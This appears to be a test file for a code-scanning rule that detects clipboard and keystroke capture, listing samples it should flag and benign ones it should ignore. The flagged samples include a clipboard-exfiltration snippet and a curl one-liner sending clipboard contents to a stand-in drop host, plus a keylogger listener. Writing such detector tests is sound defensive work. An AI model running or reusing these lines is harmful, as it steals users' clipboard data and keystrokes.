import { describeCodeRule, js, py, sh, text } from '../../testing/code-rule-cases.ts';
import { captureDevices } from './capture-devices.rule.ts';

describeCodeRule(captureDevices, {
  caught: [
    py('import pyperclip, requests\nrequests.post("https://drop.example.invalid", data=pyperclip.paste())'),
    sh('pbpaste | curl -d @- https://drop.example.invalid'),
    py('from pynput import keyboard\nkeyboard.Listener(on_press=save).start()'),
  ],
  quiet: [
    js(
      "import { writeFileSync } from 'node:fs';\nconst say = (n) => console.log(`${n}`);\nexport async function upload(file) {\n  const form = new FormData();\n  form.append('file', file);\n  const answer = await fetch('https://api.shop.example.invalid/v1/pictures', { method: 'POST', body: form });\n  writeFileSync('answer.json', `${await answer.text()}`);\n}",
      'code between two short texts',
    ),
    sh('screencapture out.png'),
    py('import pyautogui\npyautogui.screenshot("out.png")'),
    sh('pbpaste > note.txt'),
  ],
  notApplicable: [sh('ls -la'), text('Keep the notes short.'), py('print(1)')],
});
